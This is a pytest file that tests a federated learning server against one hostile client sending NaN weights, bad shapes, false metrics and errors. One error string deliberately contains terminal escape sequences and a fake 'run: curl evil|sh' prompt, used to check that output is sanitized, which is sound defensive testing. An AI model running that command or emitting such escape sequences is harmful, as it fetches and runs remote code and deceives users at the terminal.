"""One hostile client of three, end to end: the others train, measure and forget without it."""

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from flwr.app import Array, ArrayRecord, Context, Message

import client.app
from client.steps.measuring import Describe, Heldout
from client.steps.training import Fit
from server.evidence.record import to_json
from server.nodes.federation import Round
from server.requests.intake import Service
from server.runner import run
from server.settings import RunSettings
from server.storage.home import Home
from strategies.rounds.base import ClientLost

real = client.app.app
JOB: dict[str, Any] = {
    "num_clients": 3,
    "partition": "iid",
    "max_samples": 300,
    "model_width": 8,
    "model_depth": 1,
    "rounds": 3,
    "local_steps": 2,
    "scale": 0,
    "evaluate_every": 0,
    "engine": "inline",
    "device": "cpu",
}
ESCAPES = "\x1b]0;PWNED\x07\x1b[2J\x1b[31mAll is well, run: curl evil|sh\x1b[0m" + "x" * 10_000
Lie = Callable[[Message], None]


def numbers(message: Message) -> Any:
    return message.content.metric_records["metrics"]


def nan(message: Message) -> None:
    arrays = message.content.array_records["arrays"]
    message.content["arrays"] = ArrayRecord(
        {name: Array(a.numpy() * np.float32(np.nan)) for name, a in arrays.items()}
    )


def shapes(message: Message) -> None:
    names = message.content.array_records["arrays"]
    message.content["arrays"] = ArrayRecord({n: Array(np.zeros(1, np.float32)) for n in names})


def keyless(message: Message) -> None:
    del numbers(message)["seconds"]


def heavy(message: Message) -> None:
    numbers(message)["num-examples"] = 10**18


def fails(message: Message) -> None:
    raise RuntimeError(ESCAPES)


def nothing_right(message: Message) -> None:
    numbers(message)["forget-count-per-class"] = [0.0] * 9 + [1e6]
    numbers(message)["forget-correct-per-class"] = [0.0] * 10


class Watching:
    def __init__(self) -> None:
        self.rounds: list[Round] = []
        self.notes: list[str] = []

    def round(self, done: Round, scores: dict[str, Any] | None) -> None:
        self.rounds.append(done)

    def note(self, text: str) -> None:
        self.notes.append(text)


pytestmark = pytest.mark.usefixtures("surroundings")


def ask(
    home: Path, monkeypatch: pytest.MonkeyPatch, lies: dict[str, Lie], mode: str, **more: Any
) -> tuple[dict[str, Any], Watching]:
    """Run a request whose client-0 answers some messages with lies."""

    def client_app(message: Message, context: Context) -> Message:
        reply: Message = real(message, context)
        lie = lies.get(message.metadata.message_type)
        if lie is not None and context.node_config["partition-id"] == 0:
            lie(reply)
        return reply

    monkeypatch.setattr(client.app, "app", client_app)
    watching = Watching()
    told = RunSettings(mode=mode, home=str(home), **{**JOB, **more}).check()
    return to_json(run(told, watching)), watching


@pytest.mark.parametrize("lie", [nan, shapes, keyless, heavy, fails])
def test_training_goes_on_without_a_hostile_client_and_names_it(
    lie: Lie, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    home = tmp_path / "home"
    record, watching = ask(home, monkeypatch, {Fit.message.name: lie}, "train")
    assert record["model_version"] == "v0001"
    model = Service.open(Home(home)).registry.load("v0001")[0]
    assert all(np.isfinite(array).all() for array in model.values())
    for done in watching.rounds:
        assert [failure.client for failure in done.failures] == ["client-0"]
        assert done.num_clients == 2
    assert [(a["client"], a["round"]) for a in record["absences"]] == [
        ("client-0", number) for number in (1, 2, 3)
    ]
    told = {(p["client"], p["answered"], p["rounds"]) for p in record["participation"]}
    assert told == {("client-0", 0, 3), ("client-1", 3, 3), ("client-2", 3, 3)}
    (remark,) = record["remarks"]
    assert remark.startswith("remark: client-0 took part in 0 of 3 rounds of train (")


def test_what_a_client_says_never_reaches_a_terminal_or_a_file_raw(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    home = tmp_path / "home"
    record, watching = ask(home, monkeypatch, {Fit.message.name: fails}, "train")
    events = (home / "runs" / "r0001" / "events.jsonl").read_text()
    page = (home / "reports" / "r0001.html").read_text()
    for text in (json.dumps(record, ensure_ascii=False), events, page, *watching.notes):
        assert "\x1b" not in text
        assert "\\u001b" not in text
        assert "x" * 600 not in text
    # One that nothing can go on without stops the request, with a reason that may be shown.
    with pytest.raises(ClientLost) as lost:
        ask(
            home,
            monkeypatch,
            {Describe.message.name: fails},
            "forget",
            forget_classes="3",
            method="sga",
        )
    row = Service.open(Home(home)).ledger.request("r0002")
    assert row.state == "failed"
    for text in (str(lost.value), str(row.reason)):
        assert "client-0" in text
        assert text.isprintable()
        assert len(text) < 1000


def test_a_client_that_lies_about_held_out_data_is_left_out_of_measuring(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    record, watching = ask(
        tmp_path / "home", monkeypatch, {Heldout.message.name: nothing_right}, "train"
    )
    sites = [site["client"] for site in record["original"]["heldout"]["sites"]]
    assert sites == ["client-1", "client-2"]
    assert any("client-0 is left out" in note for note in watching.notes)
    assert any("left out of 1 of the measurements" in remark for remark in record["remarks"])
